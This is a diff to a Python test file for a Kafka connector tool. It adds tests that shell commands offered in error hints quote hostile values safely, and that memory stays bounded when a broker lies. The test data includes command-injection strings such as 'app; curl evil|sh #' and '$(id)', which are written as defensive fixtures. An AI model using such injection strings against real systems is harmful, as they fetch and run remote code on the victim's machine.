@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import re
+import shlex
+import tracemalloc
 from concurrent.futures import Future
 from dataclasses import replace
 from pathlib import Path
@@ -13,13 +16,15 @@ from confluent_kafka import KafkaError, KafkaException
 
 from mzplan.connectors.api.queries import ResolvedQuery, resolve
 from mzplan.connectors.api.replays import _ONLY_STREAMS
-from mzplan.connectors.kafka import probe
+from mzplan.connectors.kafka import client, probe
 from mzplan.connectors.kafka.client import ClusterError
 from mzplan.connectors.kafka.options import consumer_options, jaas, librdkafka_options
 from mzplan.connectors.kafka.probe import compare_upstreams
+from mzplan.connectors.kafka.problems import _DENIED, KafkaProblems
 from mzplan.connectors.kafka.source import stream_options
 from mzplan.model.address import Address
 from mzplan.model.diagnostics import ExitCode, MzplanError
+from mzplan.model.words import nearest
 from mzplan.schema.description import Description, InlinedConnection
 from mzplan.schema.kinds import resource_kind
 from mzplan.secrets.references import Secrets
@@ -103,6 +108,41 @@ def test_a_topic_of_nearly_this_name() -> None:
             probe.identify(client, query(), False)
         (found,) = caught.value.diagnostics
         assert (found.code, found.hint) == ("MZ052", hint)
+
+
+def test_what_a_hint_has_a_shell_do_is_quoted() -> None:
+    """A name, a topic, a broker and an id that somebody else has written, in a command that is pasted."""
+    evil = "app; curl evil|sh #"
+    described = source(protocol="SASL_SSL", sasl={"mechanism": "PLAIN", "username": evil, "password": "p"})
+    described = replace(described, id="$(id)", body={**described.body, "topic": "`id`"})
+    asked = resolve(described, Secrets(".", {}), ".")
+    asked.link.body["brokers"][0] = "a:1;id"
+    hints = [client.not_allowed(asked, "`id`"), client._no_topic(asked, "`id`")]
+    hints += [KafkaProblems(asked)._denied(name, "mzplan.$(id)") for name in _DENIED]
+    for problem in hints:
+        (told,) = problem.diagnostics
+        command = told.hint.partition("create it: ")[2] or told.hint.removesuffix(
+            "; or say delivery: at-least-once."
+        )
+        words = shlex.split(command)
+        names = {"a:1;id", f"User:{evil}", "`id`", "mzplan.$(id)"}
+        assert words[2] == "a:1;id" and all(w in names or re.fullmatch(r"[\w.-]+", w) for w in words)
+
+
+def test_what_a_broker_names_is_not_kept_and_has_a_bound(monkeypatch: pytest.MonkeyPatch) -> None:
+    """One that lies names others each time, as long as it likes, and as many."""
+    tracemalloc.start()
+    for look in range(3):
+        assert nearest("orders", (f"{look}{number}".ljust(32_000, "x") for number in range(1000))) is None
+    assert tracemalloc.get_traced_memory()[0] < 1 << 20
+    tracemalloc.stop()
+    taken = iter(range(10**9))
+    assert nearest("orders", (f"topic{number}" for number in taken)) is None
+    assert next(taken) < 1_000_000
+    made: list[dict[str, Any]] = []
+    monkeypatch.setattr(client, "AdminClient", made.append)
+    client.new_client(query(), {"bootstrap.servers": "a:1"})
+    assert made[0]["receive.message.max.bytes"] < 10_000_000
 
 
 def test_a_password_can_not_leave_its_quotes() -> None:
